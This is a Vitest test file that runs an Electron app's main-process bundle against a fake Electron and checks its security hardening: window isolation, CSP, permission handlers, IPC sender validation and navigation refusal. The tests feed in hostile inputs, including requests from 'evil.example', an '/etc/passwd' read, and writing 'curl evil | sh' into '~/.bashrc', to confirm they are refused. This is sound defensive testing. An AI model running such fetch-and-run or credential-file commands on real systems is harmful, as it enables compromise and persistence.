import { mkdtempSync, writeFileSync } from 'node:fs';
import Module from 'node:module';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { pathToFileURL } from 'node:url';
import { build } from 'esbuild';
import { describe, expect, it, vi } from 'vitest';

/**
 * Starts the real main-process bundle against a recording stand-in for
 * Electron (its binary cannot run here), and checks what it asks of Electron.
 */
async function startMain() {
  const out = mkdtempSync(join(tmpdir(), 'mlsd-main-'));
  await build({ entryPoints: [resolve(import.meta.dirname, '../../electron/main.ts')], bundle: true, platform: 'node', format: 'cjs', outfile: join(out, 'main.cjs'), external: ['electron'], logLevel: 'error' });
  const calls: { windows: { options: unknown; loaded?: string; handlers: Record<string, Function> }[]; ipc: Record<string, Function>; menu?: unknown; csp?: Function; permissionRequest?: Function; permissionCheck?: Function; appEvents: Record<string, Function>; sent: [string, unknown][] } = { windows: [], ipc: {}, appEvents: {}, sent: [] };
  let ready!: () => void;
  const whenReady = new Promise<void>((r) => (ready = r));
  const fake = {
    app: {
      getPath: () => join(out, 'data'),
      isPackaged: false,
      requestSingleInstanceLock: () => true,
      on: (event: string, handler: Function) => void (calls.appEvents[event] = handler),
      whenReady: () => whenReady,
      quit: () => {},
    },
    BrowserWindow: class {
      static getAllWindows = () => calls.windows;
      webContents: Record<string, unknown>;
      record: (typeof calls.windows)[number];
      constructor(options: unknown) {
        this.record = { options, handlers: {} };
        calls.windows.push(this.record);
        const record = this.record;
        this.webContents = {
          on: (event: string, handler: Function) => void (record.handlers[`contents:${event}`] = handler),
          setWindowOpenHandler: (handler: Function) => void (record.handlers.windowOpen = handler),
          send: (channel: string, payload: unknown) => void calls.sent.push([channel, payload]),
          isLoading: () => false,
          id: calls.windows.length,
        };
      }
      once() {}
      on(event: string, handler: Function) {
        this.record.handlers[event] = handler;
      }
      loadFile(path: string) {
        this.record.loaded = path;
        return Promise.resolve();
      }
    },
    ipcMain: { handle: (channel: string, handler: Function) => void (calls.ipc[channel] = handler) },
    Menu: { setApplicationMenu: (menu: unknown) => void (calls.menu = menu), buildFromTemplate: (t: unknown) => t },
    dialog: {},
    shell: { openExternal: async () => {} },
    screen: { getAllDisplays: () => [{ workArea: { x: 0, y: 0, width: 1920, height: 1080 } }] },
    session: {
      defaultSession: {
        webRequest: { onHeadersReceived: (handler: Function) => void (calls.csp = handler) },
        setPermissionRequestHandler: (handler: Function) => void (calls.permissionRequest = handler),
        setPermissionCheckHandler: (handler: Function) => void (calls.permissionCheck = handler),
      },
    },
  };
  const load = (Module as unknown as { _load: Function })._load;
  (Module as unknown as { _load: Function })._load = function (request: string, ...rest: unknown[]) {
    return request === 'electron' ? fake : load.call(this, request, ...rest);
  };
  try {
    (Module as unknown as { createRequire: (p: string) => NodeRequire }).createRequire(join(out, 'x.js'))(join(out, 'main.cjs'));
  } finally {
    (Module as unknown as { _load: Function })._load = load;
  }
  ready();
  await new Promise((r) => setTimeout(r, 10));
  return calls;
}

describe('the Electron main process', () => {
  it('creates one hardened window on the renderer, with menus, a CSP and one validated IPC channel', async () => {
    const calls = await startMain();
    expect(calls.windows).toHaveLength(1);
    const window = calls.windows[0]!;
    expect(window.options).toMatchObject({ webPreferences: { contextIsolation: true, sandbox: true, nodeIntegration: false } });
    expect(window.loaded).toMatch(/renderer[\\/]index\.html$/);
    expect((calls.menu as { label?: string }[]).map((m) => m.label).filter(Boolean)).toEqual(['File', 'Edit', 'View', 'Help']);
    let headers: Record<string, string[]> = {};
    calls.csp!({ responseHeaders: {} }, (r: { responseHeaders: Record<string, string[]> }) => void (headers = r.responseHeaders));
    expect(headers['Content-Security-Policy']![0]).toContain("script-src 'self'");
    expect(Object.keys(calls.ipc)).toEqual(['mlsd:invoke']);
    const appUrl = pathToFileURL(window.loaded!).toString();
    const granted: boolean[] = [];
    for (const [permission, url] of [['clipboard-read', appUrl], ['media', appUrl], ['clipboard-read', 'https://evil.example/'], ['notifications', appUrl]]) {
      calls.permissionRequest!({}, permission, (allowed: boolean) => granted.push(allowed), { requestingUrl: url });
    }
    expect(granted).toEqual([true, false, false, false]);
    expect(calls.permissionCheck!({ getURL: () => appUrl }, 'geolocation')).toBe(false);
    expect(calls.permissionCheck!({ getURL: () => appUrl }, 'clipboard-sanitized-write')).toBe(true);
    const fromElsewhere = await calls.ipc['mlsd:invoke']!({ senderFrame: { url: 'https://evil.example/' } }, 'listRecovery', undefined);
    expect(fromElsewhere).toEqual({ error: 'request from an unknown page' });
    const appPage = { url: pathToFileURL(window.loaded!).toString() };
    expect(await calls.ipc['mlsd:invoke']!({ senderFrame: appPage, sender: { id: 1 } }, 'listRecovery', undefined)).toEqual([]);
    expect(await calls.ipc['mlsd:invoke']!({ senderFrame: appPage, sender: { id: 99 } }, 'listRecovery', undefined)).toEqual({ error: 'request from an unknown window' });
  });

  it('hands the page a handle for a file the OS opens, and refuses paths the page names', async () => {
    const warn = vi.spyOn(console, 'warn').mockImplementation(() => {});
    const calls = await startMain();
    const page = { senderFrame: { url: pathToFileURL(calls.windows[0]!.loaded!).toString() }, sender: { id: 1 } };
    const invoke = (method: string, argument: unknown) => calls.ipc['mlsd:invoke']!(page, method, argument);
    const path = join(mkdtempSync(join(tmpdir(), 'mlsd-os-')), 'given.mlsd.json');
    writeFileSync(path, '{"given":true}');
    calls.appEvents['open-file']!({ preventDefault: () => {} }, path);
    const [channel, payload] = calls.sent.at(-1)!;
    expect(channel).toBe('mlsd:event:openFile');
    expect(JSON.stringify(payload)).not.toContain(path);
    const { ref } = payload as { ref: string };
    expect(await invoke('openRecent', { ref })).toEqual({ ref, name: 'given.mlsd.json', content: '{"given":true}' });
    expect(await invoke('openRecent', { ref: '/etc/passwd' })).toEqual({ error: 'cannot open this file: it is not on the recent list; use Open' });
    expect(await invoke('save', { ref: '~/.bashrc', content: 'curl evil | sh' })).toMatchObject({ error: expect.stringContaining('use Save As') });
    expect(warn).toHaveBeenCalledTimes(2);
    warn.mockRestore();
  });

  it('refuses navigation away from the app and new windows', async () => {
    const calls = await startMain();
    const handlers = calls.windows[0]!.handlers;
    let prevented = false;
    handlers['contents:will-navigate']!({ preventDefault: () => (prevented = true) }, 'https://example.com/');
    expect(prevented).toBe(true);
    expect(handlers.windowOpen!({ url: 'https://example.com/' })).toEqual({ action: 'deny' });
  });
});
